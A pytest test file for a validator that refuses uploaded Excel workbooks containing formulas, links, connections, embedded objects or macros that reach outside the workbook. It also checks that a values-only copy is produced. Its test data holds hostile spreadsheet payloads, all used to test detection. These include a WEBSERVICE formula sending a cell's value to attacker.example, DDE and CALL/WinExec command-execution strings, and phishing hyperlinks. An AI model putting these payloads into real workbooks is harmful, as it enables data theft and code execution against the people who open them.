"""Uploaded workbooks made inert (franchise/quarterly/inert.py): ordinary formulas with
their saved values pass; anything that reaches outside the workbook is refused
with the cell named. Each hostile workbook is the correct report with one part
edited in the ZIP package, as Excel (or an attacker) would write it."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from franchise.quarterly import inert

from . import workbooks
from .test_validation import REFERENCE, check, messages

# Formula text alone: (formula, what the refusal says; None: accepted) --------------------

FORMULAS = [
    ("SUM(700000,18000)", None),
    ("'Gross Revenue'!B2*0.05", None),
    ("SUM(Table1[Amount])", None),
    ("SUM(Table1[[#This Row],[Amount]])", None),
    ("[@Amount]*2", None),
    ('IF(A1>0,"see WEBSERVICE(x) or cmd|calc","")', None),  # inside a string: text, not a call
    ("ROUND(B2*5%,2)", None),
    ('_xlfn.WEBSERVICE("https://attacker.example/?"&B7)', "uses WEBSERVICE, which fetches a web address"),
    ('WEBSERVICE ("https://x.example")', "uses WEBSERVICE"),
    ('HYPERLINK("https://phish.example","Click")', "uses HYPERLINK, which opens a web address or a file"),
    ('_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://x.example"),"//a")', "uses FILTERXML"),
    ('RTD("evil.server",,"topic")', "uses RTD, which starts a real-time data program"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "uses CALL, which calls a function in a program library"),
    ('REGISTER.ID("kernel32","WinExec")', "uses REGISTER.ID"),
    ('_xlfn.IMAGE("https://tracker.example/pixel.png")', "uses IMAGE, which downloads a picture"),
    ('EXEC("calc.exe")', "uses EXEC, which starts a program"),
    ('_xlfn._xlws.PY("import os",0)', "uses PY, which runs Python code"),
    ('_xll.BDP("IBM US Equity","PX_LAST")', "a function from an add-in program"),
    ("cmd|' /c calc'!A0", "through DDE"),
    ("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "through DDE"),
    ("[Book.xlsx]Sheet1!A1", "refers to another workbook or file"),
    ("'C:\\Finance\\[ledger.xlsx]Q2'!B7", "refers to another workbook or file"),
    ("'https://share.example/[ledger.xlsx]Q2'!B7", "refers to another workbook or file"),
    ("[1]Sheet1!$A$1", "refers to another workbook or file"),
    ("SUM([1]!Revenue)", "refers to another workbook or file"),
]


@pytest.mark.parametrize(("formula", "problem"), FORMULAS)
def test_formulas_that_reach_outside_are_named(formula, problem):
    problems = inert.formula_problems(formula)
    if problem is None:
        assert problems == []
    else:
        assert any(problem in found for found in problems), problems


def test_one_formula_can_have_several_problems():
    problems = inert.formula_problems('HYPERLINK(_xlfn.WEBSERVICE("http://x"),[1]S!A1)')
    assert len(problems) == 3


# Whole workbooks: (name, edit of the correct report, the errors expected) ---------------


def _formula(sheet, ref, formula, value=None):
    return lambda data: workbooks.with_formula(data, sheet, ref, formula, value)


WORKBOOKS = [
    (
        "webservice in a cell",
        _formula("Summary", "B7", '_xlfn.WEBSERVICE("https://attacker.example/?"&B3)', 718000),
        ["Summary!B7: the formula =_xlfn.WEBSERVICE(", "it uses WEBSERVICE, which fetches a web address"],
    ),
    (
        "hyperlink function in a note",
        _formula("Gross Revenue", "C12", 'HYPERLINK("https://phish.example","Printed channel guide")'),
        ["Gross Revenue!C12: the formula =HYPERLINK(", "opens a web address or a file"],
    ),
    (
        "dde",
        _formula("Customer Service", "B2", "cmd|' /c calc'!A0", 41200),
        ["Customer Service!B2: the formula =cmd|' /c calc'!A0: it calls another program through DDE"],
    ),
    (
        "reference to another workbook",
        _formula("Summary", "B6", "'C:\\Finance\\[ledger.xlsx]Q2'!B7", 152340),
        ["Summary!B6: the formula ='C:\\Finance\\[ledger.xlsx]Q2'!B7: it refers to another workbook or file"],
    ),
    (
        "external-link part",
        workbooks.with_external_link,
        [
            "The workbook contains a link to another workbook or program (external link) "
            "(xl/externalLinks/externalLink1.xml)",
            "refers to “file:///C:/Finance/ledger.xlsx”, outside the workbook",
        ],
    ),
    (
        "cell hyperlink to a web address",
        lambda data: workbooks.with_hyperlink(data, "Gross Revenue", "C12", "https://phish.example/login"),
        ["Gross Revenue!C12: the cell links to “https://phish.example/login”, outside the workbook"],
    ),
    (
        "cell hyperlink to a file share",
        lambda data: workbooks.with_hyperlink(data, "Summary", "B2", "file://///attacker.example/share/x.xlsx"),
        ["Summary!B2: the cell links to “file://///attacker.example/share/x.xlsx”"],
    ),
    (
        "defined name",
        lambda data: workbooks.with_defined_name(data, "Leak", '_xlfn.WEBSERVICE("https://x.example")'),
        ["The defined name “Leak” =_xlfn.WEBSERVICE(", "it uses WEBSERVICE"],
    ),
    (
        "data connection",
        lambda data: workbooks.with_part(data, "xl/connections.xml", b"<connections/>"),
        ["The workbook contains a data connection to an outside source (xl/connections.xml)"],
    ),
    (
        "embedded object",
        lambda data: workbooks.with_part(data, "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 package"),
        ["The workbook contains an embedded object, which can carry a program"],
    ),
    (
        "chart series from another workbook",
        lambda data: workbooks.with_part(
            data,
            "xl/charts/chart1.xml",
            b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart>'
            b"<c:ser><c:val><c:numRef><c:f>[1]Sheet1!$B$2:$B$9</c:f></c:numRef></c:val></c:ser>"
            b"</c:chart></c:chartSpace>",
        ),
        ["The formula (in xl/charts/chart1.xml) =[1]Sheet1!$B$2:$B$9: it refers to another workbook or file"],
    ),
    (
        "shape that runs a macro",
        lambda data: workbooks.with_part(
            data,
            "xl/drawings/drawing1.xml",
            b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">'
            b'<xdr:twoCellAnchor><xdr:sp macro="[1]!Payload"/></xdr:twoCellAnchor></xdr:wsDr>',
        ),
        ["A button, control or shape (in xl/drawings/drawing1.xml) runs the macro “[1]!Payload”"],
    ),
    (
        "form control linked to another workbook (VML)",
        lambda data: workbooks.with_part(
            data,
            "xl/drawings/vmlDrawing1.vml",
            b"<xml><v:shape><x:ClientData ObjectType='Drop'><x:FmlaLink>[1]Sheet1!$A$1</x:FmlaLink><br>"
            b"</x:ClientData></v:shape></xml>",
        ),
        ["A form control (xl/drawings/vmlDrawing1.vml) =[1]Sheet1!$A$1: it refers to another workbook"],
    ),
]


@pytest.mark.parametrize(("name", "edit", "expected"), WORKBOOKS, ids=[row[0] for row in WORKBOOKS])
def test_hostile_workbooks_are_refused_with_the_cells_named(name, edit, expected):
    outcome = check(edit(workbooks.build(REFERENCE)))
    assert not outcome.ok and outcome.report is None
    found = messages(outcome)
    for text in expected:
        assert any(text in message for message in found), (text, found)


def test_a_sheet_in_utf16_or_under_another_name_is_read_too():
    data = workbooks.with_formula(workbooks.build(REFERENCE), "Summary", "B7", 'WEBSERVICE("https://x.example")', 1)
    part = workbooks.part_name(data, "Summary")
    utf16 = workbooks.rezip(data, replace={part: lambda xml: xml.decode().encode("utf-16")})
    assert "Summary!B7" in messages(check(utf16))[0]
    moved = workbooks.rezip(
        data,
        replace={"xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"sheet1.xml", b"sheet1.dat")},
        drop=(part,),
        add={part.replace(".xml", ".dat"): zipfile.ZipFile(io.BytesIO(data)).read(part)},
    )
    assert "it uses WEBSERVICE" in messages(check(moved))[0]


def test_every_problem_is_listed_at_once():
    data = workbooks.build(REFERENCE)
    data = workbooks.with_formula(data, "Summary", "B7", 'WEBSERVICE("https://x.example")', 718000)
    data = workbooks.with_formula(data, "Summary", "B8", 'HYPERLINK("https://x.example")', 60000)
    outcome = check(data)
    assert outcome.error_count == 2
    assert [(error.sheet, error.cell) for error in outcome.errors] == [("Summary", "B7"), ("Summary", "B8")]


def test_ordinary_formulas_with_their_saved_values_are_accepted():
    data = workbooks.build(REFERENCE)
    data = workbooks.with_formula(data, "Summary", "B7", "SUM(700000,18000)", 718000)
    data = workbooks.with_formula(data, "Gross Revenue", "B2", "4000000+250000", 4250000)
    data = workbooks.with_formula(data, "Summary", "B8", "'Gross Revenue'!B2/4250000*60000", 60000)
    data = workbooks.with_defined_name(data, "_xlnm.Print_Area", "Summary!$A$1:$B$8")
    outcome = check(data)
    assert outcome.ok, messages(outcome)
    assert outcome.report.fee_remitted == workbooks.REMITTED


def test_the_published_template_is_inert():
    from franchise.quarterly.workbook import build_template

    data = build_template(provider_name="Comcast Cable Communications", license_reference=REFERENCE)
    assert inert.findings(zipfile.ZipFile(io.BytesIO(data))) == []


# The values-only copy -----------------------------------------------------------------


def _hostile():
    data = workbooks.build(REFERENCE)
    data = workbooks.with_formula(data, "Summary", "B7", "SUM(700000,18000)", 718000)
    link = 'HYPERLINK("https://x.example","Printed channel guide")'
    data = workbooks.with_formula(data, "Gross Revenue", "C12", link)
    data = workbooks.with_external_link(data)
    data = workbooks.with_defined_name(data, "Total", "Summary!$B$7")
    return workbooks.with_hyperlink(data, "Summary", "B2", "https://phish.example")


def test_the_copy_has_values_only():
    copy = inert.values_only_copy(_hostile(), note="Copied from upload x")
    archive = zipfile.ZipFile(io.BytesIO(copy))
    names = archive.namelist()
    assert not [name for name in names if "externalLink" in name or name.endswith("calcChain.xml")]
    assert not [name for name in names if name.startswith("xl/worksheets/_rels/")]
    workbook_xml = archive.read("xl/workbook.xml")
    assert b"<definedName " not in workbook_xml and b'fullCalcOnLoad="1"' not in workbook_xml
    for name in names:
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<hyperlink" not in archive.read(name)
    book = load_workbook(io.BytesIO(copy))
    assert book.sheetnames == ["Summary", "Gross Revenue", "Customer Service"]
    assert not book.defined_names
    assert [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert book["Summary"]["B7"].value == 718000
    assert book["Gross Revenue"]["C12"].value == "Printed channel guide"
    assert book["Summary"]["B2"].hyperlink is None
    assert book.properties.description == "Copied from upload x"


def test_text_that_looks_like_a_formula_stays_text_in_the_copy():
    def edit(workbook):
        workbook["Summary"]["C1"] = "=HYPERLINK(1)"
        workbook["Summary"]["C1"].data_type = "s"

    copy = inert.values_only_copy(workbooks.build(REFERENCE, edit=edit))
    cell = load_workbook(io.BytesIO(copy))["Summary"]["C1"]
    assert (cell.value, cell.data_type) == ("=HYPERLINK(1)", "s")


FORMATS = [
    ("General", True),
    ("#,##0.00", True),
    ("#,##0.00;(#,##0.00)", True),
    ("[Red]#,##0.00;[Blue]-#,##0.00", True),
    ("[$$-409]#,##0.00", True),
    ("yyyy-mm-dd", True),
    ("0.0%", True),
    (";;;", False),  # hides the value
    ("0;-0;", False),  # hides zeros
    ('"Paid in full"', False),  # shows text instead of the number
    ('0 "dollars"', False),
]


@pytest.mark.parametrize(("number_format", "plain"), FORMATS)
def test_only_plain_number_formats_are_copied(number_format, plain):
    assert inert.plain_format(number_format) is plain
